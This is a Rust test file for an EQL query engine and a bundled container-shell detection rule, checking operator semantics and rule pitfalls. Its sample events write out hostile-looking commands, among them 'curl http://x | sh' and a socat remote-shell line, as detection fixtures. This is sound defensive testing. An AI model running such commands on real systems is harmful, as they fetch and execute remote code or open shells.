//! Every operator and edge case of docs/eql.md, evaluated
//! on JSON documents.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use sensor::eql::{compile_str, JsonDocument};
use sensor::rules::RuleSet;
use serde_json::{json, Value};

fn eval(query: &str, doc: &Value) -> bool {
    compile_str(query)
        .unwrap_or_else(|e| panic!("{}", e.render("<q>", query)))
        .matches(&JsonDocument::new(doc))
}

/// Evaluates `cond` under `any where` on `doc`.
fn any(cond: &str, doc: Value) -> bool {
    eval(&format!("any where {cond}"), &doc)
}

#[test]
fn category_gating() {
    let p = json!({"event": {"category": ["process"]}, "a": "x"});
    let f = json!({"event": {"category": "file"}, "a": "x"});
    let none = json!({"a": "x"});
    assert!(eval("process where a == \"x\"", &p));
    assert!(!eval("process where a == \"x\"", &f));
    assert!(!eval("process where a == \"x\"", &none));
    assert!(eval("file where a == \"x\"", &f));
    assert!(eval("any where a == \"x\"", &none));
    assert!(eval("any where a == \"x\"", &f));
    // Category is exact and case-sensitive, and any element counts.
    assert!(!eval(
        "process where true",
        &json!({"event": {"category": "Process"}})
    ));
    assert!(eval(
        "process where true",
        &json!({"event": {"category": ["network", "process"]}})
    ));
}

#[test]
fn equality_is_exact_case_sensitive_and_never_wildcard() {
    assert!(any("a == \"Foo\"", json!({"a": "Foo"})));
    assert!(!any("a == \"foo\"", json!({"a": "Foo"})));
    assert!(!any("a == \"F*\"", json!({"a": "Foo"})));
    assert!(any("a == \"F*\"", json!({"a": "F*"})));
    assert!(!any("a == \"F?o\"", json!({"a": "Foo"})));
}

#[test]
fn not_equal_and_not_are_must_not() {
    assert!(any("a != \"x\"", json!({"b": 1})));
    assert!(any("a != \"x\"", json!({"a": null})));
    assert!(any("a != \"x\"", json!({"a": []})));
    assert!(any("a != \"x\"", json!({"a": "y"})));
    assert!(!any("a != \"x\"", json!({"a": "x"})));
    // Arrays: != is "no element equals".
    assert!(!any("a != \"x\"", json!({"a": ["y", "x"]})));
    assert!(any("not a == \"x\"", json!({})));
    assert!(any("not (a == \"x\")", json!({"a": "y"})));
    assert!(!any("not (a == \"x\")", json!({"a": ["y", "x"]})));
    assert!(any("not a in (\"x\", \"y\")", json!({})));
    assert!(any("a not in (\"x\", \"y\")", json!({})));
    assert!(!any("a not in (\"x\", \"y\")", json!({"a": ["z", "y"]})));
}

#[test]
fn missing_null_and_empty_fail_every_comparison() {
    for doc in [
        json!({}),
        json!({"a": null}),
        json!({"a": []}),
        json!({"a": [null]}),
    ] {
        for cond in [
            "a == \"x\"",
            "a == false",
            "a == true",
            "a in (\"x\")",
            "a in~ (\"x\")",
            "a like \"*\"",
            "a like~ \"*\"",
            "a : \"*\"",
            "a regex \".*\"",
            "a regex~ \".*\"",
            "a < 5",
            "a >= \"\"",
        ] {
            assert!(!any(cond, doc.clone()), "{cond} on {doc}");
        }
        assert!(any("a == null", doc.clone()));
        assert!(!any("a != null", doc.clone()));
    }
    assert!(any("a != null", json!({"a": ""})));
    assert!(!any("a == null", json!({"a": 0})));
    // Objects are not values.
    assert!(any("a == null", json!({"a": {"b": 1}})));
}

#[test]
fn any_element_matching_on_arrays() {
    let doc = json!({"process": {"args": ["sh", "-c", "curl http://x | sh"]}});
    assert!(any("process.args in (\"-c\", \"-lc\")", doc.clone()));
    assert!(any("process.args like \"*curl *\"", doc.clone()));
    assert!(any("process.args == \"sh\"", doc.clone()));
    // Each element separately: no element contains both words.
    assert!(!any("process.args like \"sh -c*\"", doc.clone()));
    assert!(any("process.args regex \"curl.*\"", doc.clone()));
    assert!(!any("process.args regex \"-c curl.*\"", doc));
    // Arrays of objects flatten.
    let doc = json!({"a": [{"b": "1"}, {"b": ["2", "3"]}]});
    assert!(any("a.b == \"3\"", doc));
}

#[test]
fn booleans_match_bools_and_strings() {
    assert!(any("b == false", json!({"b": false})));
    assert!(any("b == false", json!({"b": "false"})));
    assert!(!any("b == false", json!({"b": true})));
    assert!(!any("b == false", json!({"b": "False"})));
    assert!(any("b == true", json!({"b": "true"})));
    assert!(any("b == \"true\"", json!({"b": true})));
    assert!(any("b in (true)", json!({"b": [false, true]})));
    assert!(!any("b == false", json!({"b": 0})));
}

#[test]
fn numbers_and_ranges() {
    assert!(any("n == 5", json!({"n": 5})));
    assert!(any("n == 5", json!({"n": 5.0})));
    assert!(any("n == 5", json!({"n": "5"})));
    assert!(any("n == \"5\"", json!({"n": 5})));
    assert!(!any("n == 5", json!({"n": "5.0"})));
    assert!(any("n > 2 and n <= 5", json!({"n": 5})));
    assert!(!any("n < 5", json!({"n": 5})));
    assert!(any("n >= 1.5", json!({"n": [0, 2]})));
    assert!(any("s < \"b\"", json!({"s": "abc"})));
    assert!(!any("s > \"b\"", json!({"s": "abc"})));
}

#[test]
fn in_and_in_tilde() {
    assert!(any("a in (\"x\", \"Y\")", json!({"a": "Y"})));
    assert!(!any("a in (\"x\", \"Y\")", json!({"a": "y"})));
    assert!(any("a in~ (\"x\", \"Y\")", json!({"a": "y"})));
    assert!(!any("a in~ (\"É\")", json!({"a": "é"})));
    // duplicates are harmless
    assert!(any("a in (\"x\", \"x\", \"x\")", json!({"a": "x"})));
    // a large list (binary-search path)
    let list: Vec<String> = (0..100).map(|i| format!("\"v{i}\"")).collect();
    let q = format!("a in~ ({})", list.join(", "));
    assert!(any(&q, json!({"a": "V57"})));
    assert!(!any(&q, json!({"a": "v100"})));
}

#[test]
fn like_colon_and_wildcards() {
    assert!(any("a like \"ab*\"", json!({"a": "abc"})));
    assert!(!any("a like \"AB*\"", json!({"a": "abc"})));
    assert!(any("a like~ \"AB*\"", json!({"a": "abc"})));
    assert!(any("a : \"AB*\"", json!({"a": "abc"})));
    assert!(any("a : (\"zz\", \"AB?\")", json!({"a": "abc"})));
    assert!(any("a like (\"zz\", \"*c\")", json!({"a": "abc"})));
    // `?` is one code point, `*` spans newlines
    assert!(any("a like \"?\"", json!({"a": "é"})));
    assert!(!any("a like \"??\"", json!({"a": "é"})));
    assert!(any("a like \"a*z\"", json!({"a": "a\nb\nz"})));
    // No escape character: a backslash is literal (StringUtils.toLikePattern
    // in x-pack/plugin/eql escapes with U+0001), so `a\*` is `a`, `\`, any run.
    assert!(any(r#"a like "a\\*""#, json!({"a": "a\\"})));
    assert!(any(r#"a like "a\\*""#, json!({"a": "a\\bc"})));
    assert!(!any(r#"a like "a\\*""#, json!({"a": "a*"})));
    assert!(!any(r#"a like "a\\*""#, json!({"a": "ab"})));
    assert!(any(r#"a like "C:\\""#, json!({"a": "C:\\"})));
    assert!(any(
        r#"a : "C:\\Windows\\*""#,
        json!({"a": "c:\\windows\\cmd.exe"})
    ));
    // ASCII-only case folding
    assert!(!any("a like~ \"*STRASSE*\"", json!({"a": "straße"})));
    assert!(!any("a like~ \"Ä*\"", json!({"a": "ä"})));
    // wildcards never match numbers or booleans
    assert!(!any("a like \"*\"", json!({"a": 5})));
    assert!(!any("a like \"*\"", json!({"a": true})));
    // `like` with no wildcard is exact
    assert!(!any("a like \"abc\"", json!({"a": "abcd"})));
    // `?*` means non-empty
    assert!(any(
        "container.id like \"?*\"",
        json!({"container": {"id": "x"}})
    ));
    assert!(!any(
        "container.id like \"?*\"",
        json!({"container": {"id": ""}})
    ));
    assert!(any(
        "container.id like \"*\"",
        json!({"container": {"id": ""}})
    ));
}

#[test]
fn regex_is_lucene_anchored_and_dot_all() {
    assert!(any("a regex \"ab.*\"", json!({"a": "abcde"})));
    assert!(!any("a regex \"bcd\"", json!({"a": "abcde"})));
    assert!(any("a regex \"a.c\"", json!({"a": "a\nc"})));
    assert!(any("a regex~ \"ABC\"", json!({"a": "abc"})));
    assert!(!any("a regex \"ABC\"", json!({"a": "abc"})));
    assert!(any("a regex (\"x\", \"a{2,3}\")", json!({"a": "aaa"})));
    assert!(any(r#"a regex """[0-9]+\.[0-9]+""""#, json!({"a": "1.5"})));
}

#[test]
fn invalid_patterns_are_rejected_at_compile_time() {
    for q in [
        "any where a regex \"a&b\"",
        "any where a regex \"~(a)\"",
        "any where a regex \"(a\"",
        "any where a regex \"\\\\x41\"",
    ] {
        assert!(compile_str(q).is_err(), "{q}");
    }
}

#[test]
fn precedence_not_and_or() {
    // not > and > or: `not a and b or c` == `((not a) and b) or c`
    let q = "any where not x == \"1\" and y == \"1\" or z == \"1\"";
    assert!(eval(q, &json!({"x": "0", "y": "1"})));
    assert!(!eval(q, &json!({"x": "1", "y": "1"})));
    assert!(eval(q, &json!({"x": "1", "z": "1"})));
    assert!(!eval(q, &json!({"x": "0", "y": "0"})));
}

// ---- Known traps in the seed rule ----------------------------------------

fn seed_event(parent: &str, args: &[&str]) -> Value {
    json!({
        "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "container": {"id": "c0ffee"},
        "process": {"name": "sh", "args": args,
                    "parent": {"name": parent, "interactive": false, "args": [parent]}}
    })
}

fn seed_matches(doc: &Value) -> bool {
    let rules = RuleSet::embedded_default().unwrap();
    rules.matching(&JsonDocument::new(doc)).count() == 1
}

#[test]
fn seed_trap_trailing_space_pattern() {
    // "* /tmp/* " only matches an argument ending with a space.
    assert!(!seed_matches(&seed_event(
        "nginx",
        &["sh", "-c", "cat /tmp/x"]
    )));
    assert!(seed_matches(&seed_event(
        "nginx",
        &["sh", "-c", "cat /tmp/x "]
    )));
}

#[test]
fn seed_trap_leading_space_socat() {
    // " *socat *" starts with a space: the argument must begin with one.
    assert!(!seed_matches(&seed_event(
        "nginx",
        &["sh", "-c", "socat tcp:1.2.3.4:1 exec:sh"]
    )));
    assert!(seed_matches(&seed_event(
        "nginx",
        &["sh", "-c", " socat tcp:x exec:y"]
    )));
}

#[test]
fn seed_trap_next_start_never_matches_separate_argv() {
    let mut doc = seed_event("node", &["sh", "-c", "echo hi"]);
    doc["process"]["parent"]["args"] = json!(["node", "next", "start"]);
    assert!(!seed_matches(&doc));
    // Only a single element containing "next start" would match.
    doc["process"]["parent"]["args"] = json!(["node", "/usr/bin/next start"]);
    assert!(seed_matches(&doc));
}

#[test]
fn seed_trap_ip_regex_matches_version_strings() {
    let mut doc = seed_event("nginx", &["sh", "-c", "wget -O /x nginx-1.22.3.1.tar"]);
    assert!(seed_matches(&doc), "version string counts as an IP");
    doc["process"]["args"] = json!(["sh", "-c", "wget -O /x nginx-1.22.tar"]);
    assert!(!seed_matches(&doc));
}

#[test]
fn seed_trap_duplicate_exclusions_are_harmless() {
    let doc = seed_event(
        "apache2",
        &["sh", "-c", "/usr/bin/php -r 'echo phpversion();'"],
    );
    assert!(
        !seed_matches(&doc),
        "excluded by the (duplicated) apache2 list"
    );
    let doc = seed_event("apache2", &["sh", "-c", "/usr/bin/php -r 'echo 1;'"]);
    assert!(seed_matches(&doc));
}

#[test]
fn seed_interactive_parent_and_container_are_required() {
    let mut doc = seed_event("nginx", &["sh", "-c", "curl http://x | sh"]);
    assert!(seed_matches(&doc));
    doc["process"]["parent"]["interactive"] = json!(true);
    assert!(!seed_matches(&doc));
    doc["process"]["parent"]
        .as_object_mut()
        .unwrap()
        .remove("interactive");
    assert!(
        !seed_matches(&doc),
        "missing parent.interactive is not == false"
    );
    let mut doc = seed_event("nginx", &["sh", "-c", "curl http://x | sh"]);
    doc.as_object_mut().unwrap().remove("container");
    assert!(!seed_matches(&doc));
}

#[test]
fn seed_node_exclusion_uses_must_not() {
    let mut doc = seed_event("node", &["sh", "-c", "echo hi"]);
    doc["process"]["parent"]["args"] = json!(["node", "/srv/app/server.js", "--port"]);
    assert!(seed_matches(&doc));
    doc["process"]["parent"]["args"] = json!(["node", "/root/app/server.js", "--port"]);
    assert!(!seed_matches(&doc));
}
